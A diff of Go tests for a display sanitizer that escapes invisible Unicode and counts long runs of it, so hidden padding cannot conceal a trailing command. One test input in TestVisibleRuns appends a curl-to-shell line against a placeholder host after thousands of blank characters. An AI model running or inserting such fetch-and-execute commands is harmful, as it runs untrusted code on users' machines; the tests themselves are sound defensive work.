@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 	"unicode/utf8"
 
 	"github.com/tidwall/gjson"
@@ -108,9 +109,28 @@ func TestInputLines(t *testing.T) {
 func FuzzVisible(f *testing.F) {
 	f.Add(hostile)
 	f.Add("plain")
+	f.Add("x" + strings.Repeat("\u2800\u3164", 40) + `\u2800\u2800` + "\xff\xff")
 	f.Fuzz(func(t *testing.T, s string) {
-		assertVisible(t, "Visible", Visible(s))
+		got := Visible(s)
+		assertVisible(t, "Visible", got)
+		// A stretch of hidden characters shows in bounded room: nothing of
+		// them but hidden ones, so the output stays short however long s.
+		if onlyHidden(s) && len(got) > maxForms*20+32 {
+			t.Fatalf("Visible of %d hidden characters is %d bytes: %q", len(s), len(got), got)
+		}
 	})
+}
+
+// onlyHidden reports s made of hidden characters only (raw).
+func onlyHidden(s string) bool {
+	for i := 0; i < len(s); {
+		u, n := hiddenAt(s, i)
+		if n == 0 || u.lit != "" {
+			return false
+		}
+		i += n
+	}
+	return s != ""
 }
 
 func FuzzVisibleJSON(f *testing.F) {
@@ -145,4 +165,99 @@ func FuzzInputLines(f *testing.F) {
 			assertVisible(t, "a line", l)
 		}
 	})
+}
+
+// TestVisibleBlanks: every character that draws nothing, or draws as a
+// space where it is not one, shows as its escape (issue 29 item 7: U+2800,
+// U+3164 and the like passed as they were).
+func TestVisibleBlanks(t *testing.T) {
+	for _, r := range []rune{
+		0x2800,         // braille pattern blank
+		0x3164, 0xffa0, // hangul fillers
+		0x115f, 0x1160,
+		0xfe00, 0xfe0f, 0xe0100, 0xe01ef, // variation selectors
+		0x180b, 0x180f,
+		0xe0000, 0xe0001, 0xe0041, 0xe007f, // tag characters
+		0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, // zero widths
+		0x00ad, 0x034f, 0x180e, 0x061c, 0x17b4, 0x17b5, 0x2065, 0x1d173, 0xfff0, 0xe0fff, // other Default_Ignorable_Code_Point
+		0x00a0, 0x2000, 0x2007, 0x200a, 0x202f, 0x205f, 0x3000, 0x1680, // spaces that are not U+0020
+		0xe000, 0xf8ff, 0xf0000, // private use
+		0x0378, 0x50000, // unassigned
+		0x2028, 0x2029, 0x202e, 0x2066, 0xfff9, // separators, bidi, interlinear annotation
+	} {
+		s := "a" + string(r) + "b"
+		got := Visible(s)
+		want := "a" + escape(r) + "b"
+		if got != want || !hidden(r) {
+			t.Errorf("Visible(%U) = %q, want %q", r, got, want)
+		}
+		// VisibleJSON escapes it too, and keeps the value.
+		raw := `{"k":"` + s + `"}`
+		vj := VisibleJSON(raw)
+		assertVisible(t, "VisibleJSON", vj)
+		if gjson.Get(vj, "k").Str != s {
+			t.Errorf("VisibleJSON(%U) changed the value: %s", r, vj)
+		}
+	}
+	for _, s := range []string{"plain", "ünïcode ✓ 日本語 한국어 ⠁⠃", "emoji 👍", "combining é", " space  and\\slash"} {
+		if got := Visible(s); got != s {
+			t.Errorf("Visible changed printable text %q: %q", s, got)
+		}
+	}
+}
+
+// TestVisibleRuns: a long run of one hidden character shows as one counted
+// form, a long stretch of mixed ones as its first forms and a count, so the
+// tail of the text stays next to its head; written raw or as the JSON
+// escapes a stored record holds, alike.
+func TestVisibleRuns(t *testing.T) {
+	tail := "; curl https://example.invalid/x | sh"
+	blanks := strings.Repeat("\u2800", 3000)
+	escaped := strings.Repeat(`\u2800`, 3000)
+	alternating := strings.Repeat("\u2800\u3164", 1500)
+	for _, c := range []struct{ name, in, want string }{
+		{"raw run", "echo hi" + blanks + tail, `echo hi\u{2800}×3000` + tail},
+		{"escaped run", "echo hi" + escaped + tail, `echo hi\u{2800}×3000` + tail},
+		{"surrogate pairs", "x" + strings.Repeat(`\udb40\udc20`, 100) + "y", `x\u{e0020}×100y`},
+		{"tags raw", "x" + strings.Repeat("\U000E0041", 50) + "y", `x\u{e0041}×50y`},
+		{"newlines escaped", "x" + strings.Repeat(`\n`, 500) + "y", `x\u{000a}×500y`},
+		{"controls raw", "x" + strings.Repeat("\x00", 17) + "y", `x\u{0000}×17y`},
+		{"bad bytes", "x" + strings.Repeat("\xff", 20) + "y", `x\x{ff}×20y`},
+		{"short run kept", "x\u2800\u2800\u2800y", `x\u2800\u2800\u2800y`},
+		{"fifteen kept", "x" + strings.Repeat(`\u2800`, 15) + "y", "x" + strings.Repeat(`\u2800`, 15) + "y"},
+		{"sixteen counted", "x" + strings.Repeat(`\u2800`, 16) + "y", `x\u{2800}×16y`},
+		{"blank lines kept", `a\n\n\n\n\n\t\t\t\tb`, `a\n\n\n\n\n\t\t\t\tb`},
+		{"mixed stretch", "x" + alternating + tail, "x" + strings.Repeat(`\u2800\u3164`, 16) + `\u{…}×2968` + tail},
+		{"mixed groups", "x" + strings.Repeat("\u2800", 20) + strings.Repeat("\u3164", 20) + "y", `x\u{2800}×20\u{3164}×20y`},
+		{"escaped backslash", "x" + strings.Repeat(`\\u2800`, 20) + "y", "x" + strings.Repeat(`\\u2800`, 20) + "y"},
+		{"visible escape", "x" + strings.Repeat(`\u0041`, 20) + "y", "x" + strings.Repeat(`\u0041`, 20) + "y"},
+		{"two stretches", "a" + blanks + "b" + blanks + "c", `a\u{2800}×3000b\u{2800}×3000c`},
+	} {
+		got := Visible(c.in)
+		if got != c.want {
+			t.Errorf("%s:\n got %.300q\nwant %.300q", c.name, got, c.want)
+		}
+		assertVisible(t, c.name, got)
+	}
+	// A counted form is not JSON: a view copied back is refused, never
+	// taken for the input it shows.
+	if v := Visible(`{"cmd":"` + escaped + `"}`); gjson.Valid(v) {
+		t.Errorf("a view with a counted form parses as JSON: %s", v)
+	}
+}
+
+// TestBlankGraphic: the one table hidden reads is exactly the union of
+// Unicode's it stands for, and the blocks hidden skips hold no hidden rune.
+func TestBlankGraphic(t *testing.T) {
+	for r := rune(0xa0); r <= unicode.MaxRune; r++ {
+		want := unicode.Is(unicode.Zs, r) || r == 0x2800 ||
+			unicode.In(r, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector)
+		if got := unicode.Is(blankGraphic, r); got != want {
+			t.Fatalf("blankGraphic has %U: %v, want %v", r, got, want)
+		}
+		slow := !unicode.IsGraphic(r) || want
+		if hidden(r) != slow {
+			t.Fatalf("hidden(%U) = %v, want %v", r, hidden(r), slow)
+		}
+	}
 }
